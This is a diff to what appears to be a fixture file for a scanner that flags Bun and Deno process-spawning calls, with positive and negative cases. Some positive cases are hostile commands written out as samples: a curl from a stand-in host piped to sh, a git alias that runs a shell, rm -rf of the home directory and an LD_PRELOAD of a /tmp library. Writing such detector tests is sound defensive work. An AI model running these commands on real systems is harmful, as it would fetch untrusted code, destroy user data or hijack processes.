@@ -742,3 +742,19 @@ const { spawnSync } = require('child_process');
 const env = process.env;
 env.LD_PRELOAD = '/tmp/x.so';
 spawnSync('git', ['status']);
+//@ pos Bun.spawnSync of a shell
+Bun.spawnSync(['sh', '-c', 'curl -fsSL https://x.example/i.sh | sh']);
+//@ pos Bun.spawn of a command held in an options object
+Bun.spawn({ cmd: ['python3', 'job.py'] });
+//@ pos Bun.spawn of git with code in its arguments
+Bun.spawn(['git', '-c', 'alias.x=!sh', 'x']);
+//@ pos Bun.$ of a command outside the ordinary tools
+await Bun.$`rm -rf ${process.env.HOME}`;
+//@ pos new Deno.Command of bash
+new Deno.Command('bash', { args: ['-c', 'id'] }).outputSync();
+//@ pos Deno.run whatever it runs
+Deno.run({ cmd: ['git', 'status'] });
+//@ neg Bun.spawnSync of git status
+Bun.spawnSync(['git', 'status', '--short']);
+//@ neg new Deno.Command of git log
+new Deno.Command('git', { args: ['log', '--oneline'] }).outputSync();
